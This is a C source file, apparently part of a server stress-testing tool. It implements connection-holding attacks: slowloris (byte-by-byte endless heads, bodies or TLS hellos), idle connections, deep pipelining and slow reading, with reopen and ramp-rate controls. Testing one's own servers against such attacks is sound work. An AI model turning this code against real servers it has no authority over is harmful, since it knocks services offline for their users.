/* Attackers that hold what they have: as many connections as they are told, opened at a rate
 * ("ramp"), each opened again some time after the server has closed it ("reopen", in seconds;
 * negative: never).
 *
 *   slowloris    a byte every "interval" seconds of something that never ends: a head, a body, or
 * the first message of TLS ("part") idle         one request, then nothing slow-reader  asks
 * "depth" times in one go, and reads a byte every "interval" seconds pipeline     asks "depth"
 * times in one go, reads the replies, and again */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "party.h"

static const uint64_t TURN_NS = UINT64_C(20000000);

static uint64_t interval_ns(const struct party *party)
{
  return (uint64_t)(party->settings.interval * 1e9);
}

/* --- Opening, and opening again --- */

static void open_due(struct party *party, uint64_t now)
{
  party->budget += party->settings.ramp * (double)(now - party->turned_ns) / 1e9;
  if (party->budget > party->settings.ramp) party->budget = party->settings.ramp;
  party->turned_ns = now;
  for (int i = 0; i < party->settings.clients && party->budget >= 1; i++) {
    struct client *client = &party->clients[i];
    if (client->state != CLIENT_AWAY || client->act_ns > now) continue;
    party->budget--;
    client_open(party, client, now);
  }
}

static void ended(struct party *party, struct client *client, uint64_t now)
{
  double reopen = party->settings.reopen;
  client->act_ns = reopen < 0 ? UINT64_MAX : now + (uint64_t)(reopen * 1e9);
}

static uint64_t next(const struct party *party, uint64_t now)
{
  (void)party;
  return now + TURN_NS;
}

/* They stay to the end. */
static bool done(const struct party *party, uint64_t now)
{
  (void)party;
  (void)now;
  return false;
}

static void ignore_reply(struct party *party, struct client *client, int status, uint64_t now)
{
  (void)party;
  (void)client;
  (void)status;
  (void)now;
}

/* --- slowloris --- */

/* What begins well and goes on for ever: the last byte is repeated. */
static size_t slow_text(const struct party *party, char *text, size_t size)
{
  static const char hello[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03r";
  const char *part = party->settings.part;
  if (strcmp(part, "tls") == 0) {
    memcpy(text, hello, sizeof hello - 1);
    return sizeof hello - 1;
  }
  if (strcmp(part, "body") == 0)
    return (size_t)snprintf(
        text, size,
        "POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        "Content-Length: 1000\r\n\r\n[ ",
        party->settings.path);
  return (size_t)snprintf(text, size, "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: s",
                          party->settings.path);
}

/* The whole head of a slow body goes out at once; of all else a byte. */
static void send_slowly(struct party *party, struct client *client, uint64_t now)
{
  char text[1200];
  size_t length = slow_text(party, text, sizeof text);
  bool whole = client->sent == 0 && strcmp(party->settings.part, "body") == 0;
  size_t at = client->sent < length ? client->sent : length - 1;
  if (client->sent == 0) {
    client->awaited = 1;
    party_count(party, TALLY_SENT, 1);
  }
  size_t now_sent = whole ? length : 1;
  client->sent += now_sent;
  client->act_ns = now + interval_ns(party);
  client_send(party, client, text + at, now_sent, now);
}

static void turn_slowloris(struct party *party, uint64_t now)
{
  open_due(party, now);
  for (int i = 0; i < party->settings.clients; i++) {
    struct client *client = &party->clients[i];
    if (client->state == CLIENT_CONNECTED && client->awaited > 0 && client->act_ns <= now)
      send_slowly(party, client, now);
  }
}

const struct behaviour slowloris_behaviour = {
    .kind = "slowloris",
    .attacks = true,
    .reads = true,
    .turn = turn_slowloris,
    .next = next,
    .done = done,
    .connected = send_slowly,
    .answered = ignore_reply,
    .ended = ended,
};

/* --- idle --- */

static void ask_once(struct party *party, struct client *client, uint64_t now)
{
  client->target = &party->targets[party->issued++ % party->target_count];
  client_ask(party, client, now);
}

const struct behaviour idle_behaviour = {
    .kind = "idle",
    .attacks = true,
    .reads = true,
    .turn = open_due,
    .next = next,
    .done = done,
    .connected = ask_once,
    .answered = ignore_reply,
    .ended = ended,
};

/* --- pipeline and slow-reader --- */

static void ask_deep(struct party *party, struct client *client, uint64_t now)
{
  size_t depth = (size_t)party->settings.depth;
  const struct target *target = &party->targets[party->issued++ % party->target_count];
  char *all = malloc(depth * target->length);
  if (!all) die("memory");
  for (size_t i = 0; i < depth; i++)
    memcpy(all + i * target->length, target->bytes, target->length);
  client->target = target;
  client->awaited = depth;
  client->asked += depth;
  client->act_ns = now + interval_ns(party);
  party_count(party, TALLY_SENT, (int64_t)depth);
  client_send(party, client, all, depth * target->length, now);
  free(all);
}

static void ask_again(struct party *party, struct client *client, int status, uint64_t now)
{
  (void)status;
  if (client->awaited == 0 && !client->rest) ask_deep(party, client, now);
}

const struct behaviour pipeline_behaviour = {
    .kind = "pipeline",
    .attacks = true,
    .reads = true,
    .turn = open_due,
    .next = next,
    .done = done,
    .connected = ask_deep,
    .answered = ask_again,
    .ended = ended,
};

static void turn_slow_reader(struct party *party, uint64_t now)
{
  open_due(party, now);
  for (int i = 0; i < party->settings.clients; i++) {
    struct client *client = &party->clients[i];
    if (client->state != CLIENT_CONNECTED || client->act_ns > now) continue;
    client->act_ns = now + interval_ns(party);
    client_read(party, client, 1, now);
  }
}

const struct behaviour slow_reader_behaviour = {
    .kind = "slow-reader",
    .attacks = true,
    .receive_bytes = 4096,
    .turn = turn_slow_reader,
    .next = next,
    .done = done,
    .connected = ask_deep,
    .answered = ignore_reply,
    .ended = ended,
};
